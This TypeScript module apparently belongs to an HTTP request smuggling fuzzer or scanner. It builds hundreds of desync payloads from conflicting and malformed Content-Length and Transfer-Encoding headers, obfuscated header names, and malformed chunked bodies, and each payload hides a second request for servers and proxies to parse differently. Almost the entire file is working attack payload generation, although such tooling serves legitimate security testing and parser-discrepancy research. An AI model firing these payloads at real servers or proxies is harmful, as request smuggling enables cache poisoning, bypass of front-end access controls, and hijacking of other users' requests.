/**
 * Requests whose length two readers may understand differently: a request is hidden where one of them sees a body and the other
 * one the next request. Kinds of mutations after PortSwigger's desync research and http-garden.
 */
import { hidden, type Payload, request } from './smuggling.ts'

/** What a lenient reader drops or takes for a space, put before or behind a word. */
const noise = {
  tab: '\t',
  'vertical tab': '\x0b',
  'form feed': '\x0c',
  NUL: '\0',
  DEL: '\x7f',
  nbsp: '\xa0',
  NEL: '\x85',
  'high byte': '\xff',
  'bare CR': '\r',
  'bare LF': '\n',
  comma: ',',
  semicolon: ';',
  quote: '"',
  apostrophe: "'",
  letter: 'x',
  hyphen: '-',
  fold: '\r\n ',
  'fold by tab': '\r\n\t',
  'fold by LF': '\n ',
  backspace: '\b',
} as const

const codings = [
  'identity',
  'chunked, identity',
  'identity, chunked',
  'chunked, chunked',
  'gzip, chunked',
  'chunked, gzip',
  'chunked;q=1',
  'chunk',
  'cHuNkEd',
  '[chunked]',
  '{chunked}',
  'chunked=1',
  ', chunked',
  'chunked,',
  'chunked chunked',
  '',
  ' ',
  'chunked\r\nTransfer-Encoding: identity',
  'identity\r\nTransfer-Encoding: chunked',
  'chunked\r\nTransfer-Encoding: chunked',
  'x\r\ntransfer-encoding: chunked',
]

const teNames = [
  'Transfer-Encoding',
  'transfer-encoding',
  'TRANSFER-ENCODING',
  'Transfer-Encoding ',
  'Transfer-Encoding\t',
  'Transfer-Encoding\0',
  'Transfer-Encoding\x0b',
  ' Transfer-Encoding',
  '\tTransfer-Encoding',
  '\xadTransfer-Encoding',
  '"Transfer-Encoding"',
  'Transfer Encoding',
  'Transfer-Encodin\xe7',
  'X: x\rTransfer-Encoding',
  'X: x\nTransfer-Encoding',
  'X: x\r\n Transfer-Encoding',
]

const teLines: readonly (readonly [string, string])[] = [
  ...Object.entries(noise).flatMap(([name, bytes]) => [
    [`${name} before chunked`, `Transfer-Encoding: ${bytes}chunked`] as const,
    [`${name} behind chunked`, `Transfer-Encoding: chunked${bytes}`] as const,
  ]),
  ...codings.map(coding => [JSON.stringify(coding), `Transfer-Encoding: ${coding}`] as const),
  ...teNames.map(name => [JSON.stringify(name), `${name}: chunked`] as const),
  ['no space', 'Transfer-Encoding:chunked'],
]

/** Headers that only look like it: to all readers they are others. */
const otherNames = ['Transfer_Encoding', 'TransferEncoding', 'X-Transfer-Encoding', 'Content-Encoding', 'TE']

/** Each with both headers: who goes by the one sees a hidden request where the other sees the body. */
function bothHeaders(): Payload[] {
  return teLines.flatMap(([name, line]) => [
    request(`CL.TE ${name}`, at => {
      const body = `0\r\n\r\n${hidden(at)}`
      return { lines: [`Content-Length: ${body.length}`, line], body }
    }),
    request(`TE.CL ${name}`, at => {
      const inner = hidden(at)
      const size = inner.length.toString(16)
      return { lines: [line, `Content-Length: ${size.length + 2}`], body: `${size}\r\n${inner}\r\n0\r\n\r\n` }
    }),
  ])
}

/** Ways to write a length of so many bytes, none of which is one. */
const lengths = (n: number): readonly string[] => [
  ...[`+${n}`, `-${n}`, `0x${n.toString(16)}`, `0b${n.toString(2)}`, `0o${n.toString(8)}`, `${n}.0`, `${n}e0`, `0${n}`],
  ...[`${n} ${n}`, `${n},${n}`, `${n}, ${n}`, `${n};${n}`, `0, ${n}`, `${n}, 0`, `"${n}"`, `'${n}'`, `${n}_0`, `${n}x`],
  ...[`x${n}`, `${n}\x0b`, `${n}\0`, `\0${n}`, `\xa0${n}`, `${n}\r`, `${n}\n`, `\n${n}`, `\r\n ${n}`, `0\r\n ${n}`],
  ...['', ' ', 'abc', '-0', '+0', 'NaN', 'Infinity', '18446744073709551616', `${2n ** 64n + BigInt(n)}`],
  ...[`${2n ** 32n + BigInt(n)}`, '9223372036854775808', '9'.repeat(40), '\u00b2', '0 0'],
]

const clNames = ['Content-Length ', ' Content-Length', '\tContent-Length', 'Content-Length\0', 'Content-Lengt\xe8']

function lengthsOnly(): Payload[] {
  const size = hidden(0).length
  const made = (name: string, lines: readonly string[]) => request(name, at => ({ lines, body: hidden(at) }))
  return [
    ...lengths(size).map(text => made(`CL ${JSON.stringify(text)}`, [`Content-Length: ${text}`])),
    ...clNames.map(name => made(`CL named ${JSON.stringify(name)}`, ['Content-Length: 0', `${name}: ${size}`])),
    ...(
      [
        [0, size],
        [size, 0],
        [size, size],
        [size, size + 1],
      ] as const
    ).flatMap(([first, second]) => [
      made(`CL ${first} and ${second}`, [`Content-Length: ${first}`, `Content-Length: ${second}`]),
      made(`CL ${first} and ${second} apart`, [`Content-Length: ${first}`, 'X: y', `content-length: ${second}`]),
    ]),
    ...otherNames.map(name => {
      const lines = (length: number) => [`Content-Length: ${length}`, `${name}: chunked`]
      return request(`CL.TE ${JSON.stringify(name)}`, at => {
        const body = `0\r\n\r\n${hidden(at)}`
        return { lines: lines(body.length), body }
      })
    }),
    made('CL and Content_Length', ['Content_Length: 0', `Content-Length: ${size}`]),
    made('a length that Connection names', ['Connection: Content-Length', `Content-Length: ${size}`]),
  ]
}

/** `size` and `data` of the first chunk, whatever is between and behind them. */
function chunks(): Payload[] {
  const made = (name: string, write: (inner: string, size: string) => string) =>
    request(`chunk ${name}`, at => {
      const inner = hidden(at)
      return { lines: ['Transfer-Encoding: chunked'], body: write(inner, inner.length.toString(16)) }
    })
  const end = '\r\n0\r\n\r\n'
  const sized = (text: (size: string) => string) =>
    made(JSON.stringify(text('N')), (inner, n) => `${text(n)}\r\n${inner}${end}`)
  return [
    ...Object.entries(noise).flatMap(([, bytes]) => [sized(n => `${n}${bytes}`), sized(n => `${bytes}${n}`)]),
    ...[
      (n: string) => `0x${n}`,
      (n: string) => `+${n}`,
      (n: string) => `-${n}`,
      (n: string) => `${n} ${n}`,
      (n: string) => `${n},${n}`,
      (n: string) => `${n}.0`,
      (n: string) => `${n}_0`,
      (n: string) => `10000000000000000${n}`,
      (n: string) => `FFFFFFFFFFFFFFFF${n}`,
      (n: string) => `${'0'.repeat(100)}${n}`,
      (n: string) => `g${n}`,
      () => '',
      () => 'FFFFFFFFFFFFFFFF',
      () => '8000000000000000',
      (n: string) => `${n};a=b`,
      (n: string) => `${n};a="b;c"`,
      (n: string) => `${n};a="\n"`,
      (n: string) => `${n};\n${n}`,
      (n: string) => `${n};\r${n}`,
      (n: string) => `${n};a=\0`,
      (n: string) => `${n};${'a'.repeat(5000)}`,
      (n: string) => `${n} ;a`,
      (n: string) => `${n};a\n0\n\n`,
    ].map(sized),
    made('ended by LF', (inner, n) => `${n}\n${inner}\n0\n\n`),
    made('ended by CR', (inner, n) => `${n}\r${inner}\r0\r\r`),
    made('whose data is followed by nothing', (inner, n) => `${n}\r\n${inner}0\r\n\r\n`),
    made('whose data is followed by LF', (inner, n) => `${n}\r\n${inner}\n0\r\n\r\n`),
    made('whose data is followed by other bytes', (inner, n) => `${n}\r\n${inner}XX0\r\n\r\n`),
    made('that is longer than its size', inner => `1\r\n${inner}${end}`),
    made('that is the last, ended by LF', inner => `0\n\n${inner}`),
    made('that is the last, ended by CR', inner => `0\r\r${inner}`),
    made('that is the last, with CR CR LF', inner => `0\r\r\n\r\n${inner}`),
    made('that is the last, with a bad trailer', inner => `0\r\nbad trailer\r\n\r\n${inner}`),
    made('that is the last, with a folded trailer', inner => `0\r\nX: y\r\n z\r\n\n${inner}`),
    made('that is the last, with NUL in a trailer', inner => `0\r\nX: \0\r\n\r\n${inner}`),
  ]
}

export const framingPayloads = (): Payload[] => [...bothHeaders(), ...lengthsOnly(), ...chunks()]
